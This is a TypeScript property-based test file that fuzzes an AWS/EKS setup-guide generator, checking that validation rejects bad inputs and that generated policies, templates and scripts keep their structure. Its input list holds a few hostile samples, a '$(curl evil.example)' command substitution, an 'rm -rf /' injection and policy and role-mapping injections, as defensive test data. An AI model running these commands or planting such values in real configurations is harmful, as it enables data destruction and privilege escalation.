/**
 * Property-based tests: whatever a reader types, either validation rejects it with a
 * message, or every artifact parses back to exactly the expected structure; previews
 * of rejected values never carry them; and the builders keep their structure even for
 * values validation would have refused (defence in depth).
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { artifactRow } from '../../../src/core/artifacts/catalog.ts';
import { CFN_CONSTRAINTS } from '../../../src/core/artifacts/cfn-template.ts';
import { isValidExternalId } from '../../../src/core/external-id.ts';
import { ARTIFACTS, generateArtifacts, previewArtifacts } from '../../../src/core/generate.ts';
import { isSet } from '../../../src/core/preview.ts';
import { isValidClusterName, isValidRepoPattern } from '../../../src/core/validate.ts';
import { formatIssue } from '../../../src/core/messages.ts';
import type { ArtifactId, FieldName, GuideInputs, GuideModel } from '../../../src/core/types.ts';
import {
  awsAuthEntries,
  awsCommands,
  eksctlCallsInComments,
  expectedAwsCalls,
  expectedCfnParameters,
  expectedEksctlCalls,
  expectedEksDeployerPolicy,
  expectedMapRoles,
  expectedRepoPusherPolicy,
  expectedTrustPolicy,
  parseYaml,
  parsePreview,
  parseYamlAll,
  rawModel,
  sourceExampleInputs,
  tokenizeShell,
} from './helpers.ts';

/**
 * Runs per property. 1,000 where a property is the only guard of its claim and cheap: the
 * builders' structure for any value (injection) and the template constraints ≡ validation. The
 * per-field end-to-end properties (validate → preview → parse every artifact, twice per run) run
 * 300 times each (10 fields, 3,000 in all): the rules they combine are each covered on their own
 * (validate.test.ts by example, the builder properties here at 1,000). `FC_RUNS=<n>` raises them
 * for a deeper run; the seed is printed at the start (FC_SEED replays it).
 */
const RUNS = 1000;
const FIELD_RUNS = Number(process.env['FC_RUNS'] ?? 300);

// ------------------------------------------------------------------ arbitraries

/** Characters that mean something to JSON, YAML, shell, Markdown or ARNs, plus look-alikes. */
const SPECIAL = [
  "'", '"', '\\', '\n', '\r', '\t', ' ', ':', '#', '{', '}', '[', ']', '*', '?', '&', '$', '(', ')', '`', '|', ';',
  '<', '>', '!', '%', '@', ',', '=', '/', '.', '-', '_', '~', '\u0000', '\u2028', '\u202E', '\u3000', 'é', 'ポ', '😀',
  '１', 'a', 'Z', '0', '9',
];

/** Arbitrary text: any code points, text made of special characters, known attacks, and very long strings. */
const anyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 4, arbitrary: fc.string({ unit: fc.constantFrom(...SPECIAL), maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '$(curl evil.example)', "'; rm -rf / #", '"],"Action":"*"', 'a: b', '- x', '{{SessionName}}', '${AWS::AccountId}',
      'x\n- rolearn: arn:aws:iam::1:role/admin', '*', 'system:masters',
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom('a', '-', '*', ':', "'"), minLength: 1000, maxLength: 3000 }) },
);

/** Text that is often valid for a field (so accepted values are exercised too), mixed with anything. */
function fieldText(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof({ weight: 1, arbitrary: valid }, { weight: 1, arbitrary: anyText });
}

const validish = {
  accountId: fc.stringMatching(/^[0-9]{12}$/),
  region: fc.constantFrom('ap-northeast-1', 'us-east-1', 'cn-north-1', 'cn-northwest-1', 'us-gov-west-1', 'eu-west-3'),
  cluster: fc.stringMatching(/^[0-9A-Za-z][A-Za-z0-9_-]{0,20}$/),
  // 1–4 fixed characters first, so both sides of the breadth rule (3 before the first *) come up often.
  pattern: fc.stringMatching(/^[a-z0-9]{1,4}[a-z0-9*]{0,4}(?:[-._/][a-z0-9*]{1,6}){0,2}$/),
  repo: fc.stringMatching(/^[a-z0-9]{2,8}(?:[-._/][a-z0-9]{1,6}){0,2}$/),
  iamName: fc.stringMatching(/^[\w+=,.@-]{1,40}$/),
  k8s: fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._:@-]{0,30}$/),
  namespace: fc.stringMatching(/^[a-z0-9](?:[-a-z0-9]{0,20}[a-z0-9])?$/),
  externalId: fc.stringMatching(/^[\w+=,.@:/-]{2,60}$/),
};

const list = (item: fc.Arbitrary<string>) => fc.array(fieldText(item), { minLength: 0, maxLength: 4 });

/** For each field: arbitrary values of that field, the rest being the source example. */
// Issue 10's optional fields have their own oracle: tests/unit/artifacts/options-properties.test.ts.
const FIELD_ARBITRARIES: { [F in FieldName]?: fc.Arbitrary<Partial<GuideInputs>> } = {
  accountId: fieldText(validish.accountId).map((accountId) => ({ accountId })),
  vendorAccountId: fieldText(validish.accountId).map((vendorAccountId) => ({ vendorAccountId })),
  region: fieldText(validish.region).map((region) => ({ region })),
  clusters: list(validish.cluster).map((clusters) => ({ clusters })),
  repoPatterns: list(validish.pattern).map((repoPatterns) => ({ repoPatterns })),
  repos: list(validish.repo).map((repos) => ({ repos })),
  roleNames: fc
    .record({ repoPusher: fieldText(validish.iamName), eksDeployer: fieldText(validish.iamName) })
    .map((roleNames) => ({ roleNames })),
  policyNames: fc
    .record({ repoPusher: fieldText(validish.iamName), eksDeployer: fieldText(validish.iamName) })
    .map((policyNames) => ({ policyNames })),
  kubernetes: fc
    .record({ username: fieldText(validish.k8s), group: fieldText(validish.k8s), namespace: fieldText(validish.namespace) })
    .map((kubernetes) => ({ kubernetes })),
  externalId: fieldText(validish.externalId).map((externalId) => ({ externalId })),
};

// ------------------------------------------------------------------ the oracle

/** Asserts that the artifact `id` for model `m` parses to exactly the expected structure. */
function expectStructure(id: ArtifactId, text: string, m: GuideModel): void {
  switch (id) {
    case 'repoPusherPolicy':
      expect(JSON.parse(text)).toEqual(expectedRepoPusherPolicy(m));
      break;
    case 'eksDeployerPolicy':
      expect(JSON.parse(text)).toEqual(expectedEksDeployerPolicy(m));
      break;
    case 'trustPolicy':
      expect(JSON.parse(text)).toEqual(expectedTrustPolicy(m));
      break;
    case 'cfnTemplate': {
      const t = parseYaml(text) as Record<string, any>;
      expect(Object.entries(t['Parameters']).map(([k, v]: [string, any]) => [k, v.Default])).toEqual(
        expectedCfnParameters(m).map(([k, v]) => [k, k === 'ExternalId' ? undefined : v]),
      );
      const r = t['Resources'];
      expect(Object.keys(r)).toEqual(['VendorRepoPusherPolicy', 'VendorEKSDeployerPolicy', 'VendorRepoPusherRole', 'VendorEKSDeployerRole']);
      expect(r.VendorRepoPusherPolicy.Properties.ManagedPolicyName).toBe(m.policyNames.repoPusher);
      expect(r.VendorEKSDeployerPolicy.Properties.ManagedPolicyName).toBe(m.policyNames.eksDeployer);
      expect(r.VendorRepoPusherRole.Properties.RoleName).toBe(m.roleNames.repoPusher);
      expect(r.VendorEKSDeployerRole.Properties.RoleName).toBe(m.roleNames.eksDeployer);
      expect(r.VendorRepoPusherPolicy.Properties.PolicyDocument.Statement[1].Resource).toHaveLength(m.repoPatterns.length);
      expect(r.VendorEKSDeployerPolicy.Properties.PolicyDocument.Statement[0].Resource).toHaveLength(m.clusters.length);
      break;
    }
    case 'cfnParameters':
      expect(JSON.parse(text)).toEqual(expectedCfnParameters(m).map(([ParameterKey, ParameterValue]) => ({ ParameterKey, ParameterValue })));
      break;
    case 'deployStack':
    case 'accessEntry':
    case 'verify':
      expect(awsCommands(text)).toEqual(expectedAwsCalls(id, m));
      break;
    case 'awsAuth':
      expect(awsAuthEntries(text)).toEqual(expectedMapRoles(m));
      expect(eksctlCallsInComments(text)).toEqual(expectedEksctlCalls(m));
      break;
    case 'rbac': {
      const [role, binding] = parseYamlAll(text) as any[];
      expect(role.metadata.namespace).toBe(m.kubernetes.namespace);
      expect(binding.metadata.namespace).toBe(m.kubernetes.namespace);
      expect(binding.subjects).toEqual([{ kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: m.kubernetes.group }]);
      break;
    }
    case 'handoff':
      // The ExternalId has no influence on the handoff sheet at all.
      expect(ARTIFACTS.find((a) => a.id === 'handoff')?.build({ ...m, externalId: 'x' })).toBe(text);
      for (const cluster of m.clusters) expect(text).toContain(`- \`${cluster}\`\n`);
      for (const repo of m.repos) expect(text).toContain(`.${m.dnsSuffix}/${repo}\``);
      break;
  }
}

/** The same field emptied: validation turns an empty value (or item) into the same placeholder as an invalid one. */
function emptied(patch: Partial<GuideInputs>, bad: (field: FieldName, key: string | undefined, index: number | undefined) => boolean): Partial<GuideInputs> {
  const out: Record<string, unknown> = {};
  for (const [field, value] of Object.entries(patch) as [FieldName, unknown][]) {
    if (Array.isArray(value)) out[field] = value.map((v, i) => (bad(field, undefined, i) ? '' : v));
    else if (typeof value === 'object' && value !== null) {
      out[field] = Object.fromEntries(Object.entries(value).map(([k, v]) => [k, bad(field, k, undefined) ? '' : v]));
    } else out[field] = bad(field, undefined, undefined) ? '' : value;
  }
  return out as Partial<GuideInputs>;
}

describe('any input: rejected with a message, or every artifact is exactly as expected', () => {
  for (const field of Object.keys(FIELD_ARBITRARIES) as FieldName[]) {
    it(`${field} (${FIELD_RUNS} runs)`, () => {
      let accepted = 0;
      let rejected = 0;
      fc.assert(
        fc.property(FIELD_ARBITRARIES[field] as fc.Arbitrary<Partial<GuideInputs>>, (patch) => {
          const inputs: GuideInputs = { ...sourceExampleInputs(), ...patch };
          const result = generateArtifacts(inputs);
          const previews = previewArtifacts(inputs);
          if (!result.ok) {
            rejected++;
            expect(result.errors.length).toBeGreaterThan(0);
            for (const issue of result.errors) {
              expect(issue.field).toBe(field);
              for (const lang of ['ja', 'en'] as const) {
                const message = formatIssue(issue, lang);
                expect(message.length).toBeGreaterThan(10);
                expect(message).not.toMatch(/[\n\r\u2028\u2029]/);
              }
            }
            // The preview with the bad values must be byte-identical to the one with those values
            // emptied: the rejected text has no influence at all, so it cannot appear.
            const isBad = (f: FieldName, key: string | undefined, index: number | undefined) =>
              result.errors.some(
                (e) => e.field === f && (e.key === undefined || e.key === key) && (e.index === undefined || e.index === index),
              );
            const reference = previewArtifacts({ ...sourceExampleInputs(), ...emptied(patch, isBad) });
            expect(previews.map((p) => p.text)).toEqual(reference.map((p) => p.text));
            for (const p of previews) {
              parsePreview(p.language, p.fileName, p.text);
              expect(p.ready).toBe(!ARTIFACTS.find((a) => a.id === p.id)?.uses.includes(field));
            }
            return;
          }
          accepted++;
          // Valid inputs: the preview is the generated text, ready to copy.
          expect(previews.map((p) => p.text)).toEqual(result.artifacts.map((a) => a.text));
          expect(previews.every((p) => p.ready)).toBe(true);
          const m = rawModelFrom(inputs);
          for (const artifact of result.artifacts) expectStructure(artifact.id, artifact.text, m);
        }),
        { numRuns: FIELD_RUNS },
      );
      // Both branches must really have been exercised.
      expect(accepted).toBeGreaterThan(FIELD_RUNS / 20);
      expect(rejected).toBeGreaterThan(FIELD_RUNS / 20);
    });
  }
});

/** The model the validator derives, rebuilt independently: the region decides partition and suffix. */
function rawModelFrom(inputs: GuideInputs): GuideModel {
  const partition = inputs.region.startsWith('cn-') ? 'aws-cn' : inputs.region.startsWith('us-gov-') ? 'aws-us-gov' : 'aws';
  const optional = { trustedVendorRoleArns: [], permissionsBoundary: '', tags: [], previousExternalId: '' };
  return { ...optional, ...inputs, partition, dnsSuffix: partition === 'aws-cn' ? 'amazonaws.com.cn' : 'amazonaws.com' };
}

// ------------------------------------------------------------------ builders alone

// Stand-ins for values: private-use characters that no generated value contains.
const token = (n: number) => `\uE000${n}\uE001`;

/** A model whose every value is a distinct token, and the token → value substitution. */
function tokenised(m: GuideModel): { canonical: GuideModel; values: Map<string, string> } {
  const values = new Map<string, string>();
  const t = (value: string) => {
    const key = token(values.size);
    values.set(key, value);
    return key;
  };
  return {
    canonical: {
      ...m,
      accountId: t(m.accountId),
      vendorAccountId: t(m.vendorAccountId),
      region: t(m.region),
      clusters: m.clusters.map(t),
      repoPatterns: m.repoPatterns.map(t),
      repos: m.repos.map(t),
      roleNames: { repoPusher: t(m.roleNames.repoPusher), eksDeployer: t(m.roleNames.eksDeployer) },
      policyNames: { repoPusher: t(m.policyNames.repoPusher), eksDeployer: t(m.policyNames.eksDeployer) },
      kubernetes: { username: t(m.kubernetes.username), group: t(m.kubernetes.group), namespace: t(m.kubernetes.namespace) },
      externalId: t(m.externalId),
    },
    values,
  };
}

/** `data` with every token in every string replaced by its value. */
function substitute(data: unknown, values: Map<string, string>): unknown {
  if (typeof data === 'string') return data.replace(/\uE000\d+\uE001/g, (k) => values.get(k) ?? k);
  if (Array.isArray(data)) return data.map((d) => substitute(d, values));
  if (typeof data === 'object' && data !== null) {
    return Object.fromEntries(Object.entries(data).map(([k, v]) => [substitute(k, values), substitute(v, values)]));
  }
  return data;
}

/** The structure of a text artifact, for comparison: parsed data, or the script's commands. */
function structureOf(language: string, id: ArtifactId, text: string): unknown {
  if (language === 'json') return JSON.parse(text);
  // aws-auth: the entries inside the `mapRoles: |` block, parsed as aws-iam-authenticator reads them.
  if (id === 'awsAuth') return awsAuthEntries(text);
  if (language === 'yaml') return id === 'rbac' ? parseYamlAll(text) : parseYaml(text);
  return tokenizeShell(text);
}

const rawValue = fc
  .oneof(
    anyText,
    // Strings YAML 1.1 or 1.2 would read as something else if written plain.
    fc.constantFrom(
      '', ' ', '-', '--', 'yes', 'No', 'on', 'OFF', 'y', 'null', 'Null', '~', 'True', '0123', '0777', '0o17', '0x1F', '0b101',
      '1e3', '+1', '-.5', '1_000', '1:20', '2012-10-17', '2001-12-14t21:59:43.10-05:00', '.inf', '-.Inf', '.NaN', '=', '<<',
      // Strings a block scalar cannot hold exactly.
      ' \n', '\n', '\n\n ', 'a\n ', ' \na', '\t\n',
    ),
  )
  .filter((s) => !/[\uE000\uE001\u0000]/.test(s) && s.isWellFormed());
const rawList = fc.array(rawValue, { minLength: 1, maxLength: 3 });
const arbitraryModel: fc.Arbitrary<GuideModel> = fc
  .record({
    accountId: rawValue,
    vendorAccountId: rawValue,
    region: rawValue,
    clusters: rawList,
    repoPatterns: rawList,
    repos: fc.array(rawValue, { maxLength: 3 }),
    roleNames: fc.record({ repoPusher: rawValue, eksDeployer: rawValue }),
    policyNames: fc.record({ repoPusher: rawValue, eksDeployer: rawValue }),
    kubernetes: fc.record({ username: rawValue, group: rawValue, namespace: rawValue }),
    externalId: rawValue,
  })
  .map((values) => rawModel(values));

describe('builders keep their structure for any value, valid or not (defence in depth)', () => {
  // HCL artifacts: the same property with HashiCorp's parser, in tests/validators/terraform.test.ts (async).
  for (const spec of ARTIFACTS.filter((a) => a.language !== 'md' && a.language !== 'hcl')) {
    it(`${spec.fileName}: every value stays one string / one shell word (${RUNS} runs)`, () => {
      fc.assert(
        fc.property(arbitraryModel, (m) => {
          const { canonical, values } = tokenised(m);
          const expected = substitute(structureOf(spec.language, spec.id, spec.build(canonical)), values);
          expect(structureOf(spec.language, spec.id, spec.build(m))).toEqual(expected);
        }),
        { numRuns: RUNS },
      );
    });
  }

  it(`handoff.md: one line per item whatever the values (${RUNS} runs)`, () => {
    const handoff = ARTIFACTS.find((a) => a.id === 'handoff');
    fc.assert(
      fc.property(arbitraryModel, (m) => {
        const { canonical } = tokenised(m);
        expect(handoff?.build(m).split('\n').length).toBe(handoff?.build(canonical).split('\n').length);
      }),
      { numRuns: RUNS },
    );
  });
});

/** Every field of a model, the optional ones too, with any value (valid or not). */
const fullModel: fc.Arbitrary<GuideModel> = fc
  .tuple(
    arbitraryModel,
    fc.record({
      trustedVendorRoleArns: fc.array(rawValue, { maxLength: 2 }),
      permissionsBoundary: fc.oneof(fc.constant(''), rawValue),
      tags: fc.array(rawValue, { maxLength: 2 }),
      previousExternalId: fc.oneof(fc.constant(''), rawValue),
      partition: fc.constantFrom('aws', 'aws-cn', 'aws-us-gov'),
      dnsSuffix: fc.constantFrom('amazonaws.com', 'amazonaws.com.cn'),
    }),
  )
  .map(([m, optional]) => ({ ...m, ...optional }));

describe("each builder reads only the fields of its row's `uses`, and only the presence of its `present` (what the preview's text cache keys on)", () => {
  // The region also stands for the partition and DNS suffix it implies (the row's comment).
  const DERIVED: Partial<Record<FieldName, readonly (keyof GuideModel)[]>> = { region: ['partition', 'dnsSuffix'] };
  for (const spec of ARTIFACTS) {
    it(`${spec.fileName}: the other fields changed, the text is the same (${RUNS / 10} runs)`, () => {
      fc.assert(
        fc.property(fullModel, fullModel, (mine, other) => {
          // `other` with `mine`'s values of exactly the fields the row uses, and `other`'s
          // values of its `present` fields where they are set (or not) like `mine`'s.
          const mixed: Record<string, unknown> = { ...other };
          for (const field of spec.uses) for (const key of [field, ...(DERIVED[field] ?? [])]) mixed[key] = mine[key];
          for (const field of artifactRow(spec.id).present ?? []) {
            if (isSet(other[field]) !== isSet(mine[field])) mixed[field] = mine[field];
          }
          expect(spec.build(mixed as unknown as GuideModel)).toBe(spec.build(mine));
        }),
        { numRuns: RUNS / 10 },
      );
    });
  }
});

describe('the template\'s parameter constraints refuse exactly what validation refuses', () => {
  // CloudFormation checks AllowedPattern (Java regex; these constructs mean the same in JS)
  // and MinLength/MaxLength (UTF-16 code units, as JS's length).
  const cfnAccepts = (c: { allowedPattern: string; minLength: number; maxLength: number }, value: string) =>
    new RegExp(c.allowedPattern).test(value) && value.length >= c.minLength && value.length <= c.maxLength;
  const cases = [
    ['cluster names', CFN_CONSTRAINTS.cluster, isValidClusterName, validish.cluster],
    ['repository patterns', CFN_CONSTRAINTS.repoPattern, isValidRepoPattern, validish.pattern],
    ['ExternalIds', CFN_CONSTRAINTS.externalId, isValidExternalId, validish.externalId],
  ] as const;
  for (const [name, constraint, isValid, valid] of cases) {
    it(`${name} (${RUNS} runs)`, () => {
      fc.assert(
        fc.property(fieldText(valid), (value) => {
          expect(cfnAccepts(constraint, value)).toBe(isValid(value));
        }),
        { numRuns: RUNS },
      );
    });
  }
});
